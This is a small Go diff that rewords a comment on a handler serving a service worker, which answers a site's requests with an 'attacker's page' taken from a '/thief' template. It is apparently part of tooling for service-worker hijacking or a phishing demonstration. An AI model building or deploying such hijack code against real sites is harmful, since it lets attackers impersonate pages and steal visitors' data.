@@ -75,7 +75,7 @@ func (s *Site) tried(w http.ResponseWriter, r *http.Request) {
 	reply(w, http.StatusOK, nil)
 }
 
-// worker is a service worker that answers for the site with the page of the thief.
+// worker serves a service worker that answers requests to the site with the attacker's page.
 func worker(w http.ResponseWriter, _ *http.Request) {
 	w.Header().Set("Content-Type", "text/javascript")
 	page, _ := json.Marshal("<!doctype html>" + pages["/thief"])
